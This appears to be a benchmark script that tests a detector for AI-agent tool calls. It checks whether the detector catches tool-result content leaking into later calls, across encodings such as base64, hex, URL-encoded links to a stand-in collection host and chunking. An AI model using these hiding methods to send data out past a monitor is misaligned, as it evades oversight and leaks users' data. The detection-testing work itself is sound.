// How often content of a result that leaves in a later call is found, per way of hiding it; and how many calls of
// sessions without any are said to carry content. Contents are texts, records and code that it makes itself.
//   node bench/eval/flow.ts [pairs] [TRACES.jsonl] [CLAUDE-CODE-SESSION.jsonl …]
import { readFileSync } from "node:fs";
import { eventOf } from "../../src/core/event.ts";
import type { Event } from "../../src/core/generated/event.ts";
import { Flow } from "../../src/detect/flow.ts";
import { type Trace, random } from "./render.ts";

const PAIRS = Number(process.argv[2] ?? 2_000);
const next = random(99);
const below = (n: number): number => Math.floor(next() * n);
const SYLLABLES = "ka lo mi ren tor vel san du pri est ol mar ge ti qua ber fi nel ost ram".split(" ");
const word = (): string =>
  Array.from({ length: 1 + below(4) }, () => SYLLABLES[below(SYLLABLES.length)]).join("");
const sentence = (): string => {
  const words = Array.from({ length: 6 + below(12) }, word);
  return words.join(" ").replace(/^./, (c) => c.toUpperCase()) + ".";
};
const MAKERS: (() => string)[] = [
  () => Array.from({ length: 2 + below(20) }, sentence).join(below(2) === 0 ? " " : "\n"),
  () =>
    JSON.stringify(
      Array.from({ length: 2 + below(12) }, () => ({
        id: below(1e6),
        name: word(),
        mail: `${word()}@${word()}.com`,
        note: sentence(),
      })),
    ),
  () =>
    Array.from(
      { length: 3 + below(20) },
      () => `${word()},${below(1e5)},${word()} ${word()},2026-0${1 + below(9)}-1${below(9)}`,
    ).join("\n"),
  () =>
    Array.from(
      { length: 3 + below(15) },
      () => `export function ${word()}(${word()}) {\n  return ${word()}.${word()}(${below(999)});\n}`,
    ).join("\n"),
  () =>
    `password reset for ${word()}\n${sentence()}\nkey: ${Array.from({ length: 40 }, () => "0123456789abcdef"[below(16)]).join("")}`,
];

/** The whole content, or a part of it of at least 80 characters. */
const part = (text: string): string => {
  if (next() < 0.5 || text.length < 100) return text;
  const length = 80 + below(text.length - 80);
  const from = below(text.length - length);
  return text.slice(from, from + length);
};
const pieces = (text: string, least: number): string[] => {
  const out: string[] = [];
  for (let at = 0; at < text.length;) {
    const size = least + below(least);
    out.push(text.slice(at, at + size));
    at += size;
  }
  return out;
};
const b64 = (text: string): string => Buffer.from(text).toString("base64");
const WAYS: Record<string, (text: string) => string[]> = {
  verbatim: (t) => [t],
  base64: (t) => [b64(t)],
  "base64, wrapped": (t) => [b64(t).replaceAll(/.{76}/g, "$&\n")],
  base64url: (t) => [`https://collect.example/x?d=${Buffer.from(t).toString("base64url")}`],
  hex: (t) => [Buffer.from(t).toString("hex")],
  "URL encoding": (t) => [`https://collect.example/x?d=${encodeURIComponent(t)}`],
  "URL encoding, every byte": (t) => [
    [...Buffer.from(t)].map((c) => "%" + c.toString(16).padStart(2, "0")).join(""),
  ],
  escaped: (t) => [JSON.stringify(JSON.stringify(t))],
  "upper case": (t) => [t.toUpperCase()],
  "mixed case": (t) => [t.replaceAll(/[a-z]/gi, (c) => (below(2) === 0 ? c.toUpperCase() : c.toLowerCase()))],
  "spaces and punctuation": (t) => [
    t.replaceAll(/[\s,.;:{}()[\]"']+/g, () => [" ", "\n", " - ", ", ", "; "][below(5)]!),
  ],
  "in pieces of 40 to 80": (t) => pieces(t, 40),
  "in pieces of 12 to 24": (t) => pieces(t, 12),
  "base64 in pieces": (t) => pieces(b64(t), 30),
  "hex in pieces": (t) => pieces(Buffer.from(t).toString("hex"), 30),
};

let id = 0;
function event(action: "tool-call" | "tool-result" | "prompt", session: string, tool: string): Event {
  const e = eventOf(action, { namespace: "default", host: "eval", version: "0" });
  e["event.id"] = `e${id++}`;
  e["gen_ai.conversation.id"] = session;
  e["gen_ai.tool.name"] = tool;
  return e;
}
function result(flow: Flow, session: string, tool: string, text: string): Event {
  const e = event("tool-result", session, tool);
  e["gen_ai.tool.call.result"] = { text };
  flow.trace(e);
  return e;
}
function call(flow: Flow, session: string, tool: string, args: Record<string, unknown>): Event {
  const e = event("tool-call", session, tool);
  e["gen_ai.tool.call.arguments"] = args as Event["gen_ai.tool.call.arguments"];
  flow.trace(e);
  return e;
}

const pairs = Array.from({ length: PAIRS }, () => {
  const text = MAKERS[below(MAKERS.length)]!();
  return { text, part: part(text) };
});
for (const [way, change] of Object.entries(WAYS)) {
  const flow = new Flow("eval", (t) => t);
  let found = 0;
  let right = 0;
  pairs.forEach((pair, i) => {
    const session = `${way}${i}`;
    result(flow, session, "other", pairs[(i + 1) % PAIRS]!.text);
    const from = result(flow, session, "source", pair.text)["event.id"];
    let hit = false;
    let source = false;
    for (const data of change(pair.part)) {
      const e = call(flow, session, "sink", { to: "someone", data });
      hit ||= e["tapline.flow.overlap"] !== undefined;
      source ||= e["tapline.flow.from_event"] === from;
    }
    if (hit) found++;
    if (source) right++;
  });
  console.log(
    `  ${way.padEnd(26)} ${((found / PAIRS) * 100).toFixed(2).padStart(6)} % found, ${((right / PAIRS) * 100).toFixed(2)} % with its source`,
  );
}
{
  const flow = new Flow("eval", (t) => t);
  let hits = 0;
  pairs.forEach((pair, i) => {
    result(flow, `n${i}`, "source", pair.text);
    for (let k = 1; k < 4; k++)
      if (
        call(flow, `n${i}`, "sink", { data: pairs[(i + k) % PAIRS]!.part })["tapline.flow.overlap"] !==
        undefined
      )
        hits++;
  });
  console.log(`  other content              ${((hits / PAIRS / 3) * 100).toFixed(2).padStart(6)} % falsely`);
}

const plain = (text: string): string =>
  text
    .replaceAll(/\\[nrt]/g, "")
    .toLowerCase()
    .replaceAll(/[^a-z0-9]/g, "");

/** Whether 24 letters and digits of the arguments stand in a result, one after the other: what flow claims. */
function shares(results: readonly string[], args: unknown): boolean {
  let text = "";
  JSON.stringify(args, (_, v: unknown) => (typeof v === "string" ? ((text += plain(v)), v) : v));
  for (let i = 0; i + 24 <= text.length; i++)
    if (results.some((r) => r.includes(text.slice(i, i + 24)))) return true;
  return false;
}
const file = process.argv[3];
if (file !== undefined) {
  const flow = new Flow("eval", (t) => t);
  let calls = 0;
  let hits = 0;
  let wrong = 0;
  let n = 0;
  for (const line of readFileSync(file, "utf8").trimEnd().split("\n")) {
    const trace = JSON.parse(line) as Trace;
    if (trace.label !== "benign") continue;
    const session = `t${n++}`;
    const results: string[] = [];
    const prompt = event("prompt", session, "");
    prompt["gen_ai.input.messages"] = { text: trace.prompt };
    flow.trace(prompt);
    for (const step of trace.steps) {
      calls++;
      if (call(flow, session, step.tool, step.args)["tapline.flow.overlap"] !== undefined) {
        hits++;
        if (!shares(results, step.args)) {
          wrong++;
          if (process.env["SHOW"] !== undefined)
            console.log(trace.suite, trace.task, step.tool, JSON.stringify(step.args).slice(0, 200));
        }
      }
      result(flow, session, step.tool, step.result);
      results.push(plain(step.result));
    }
  }
  console.log(
    `  benign sessions: ${calls} calls, ${hits} carry content of a result, ${wrong} of these wrongly`,
  );
}
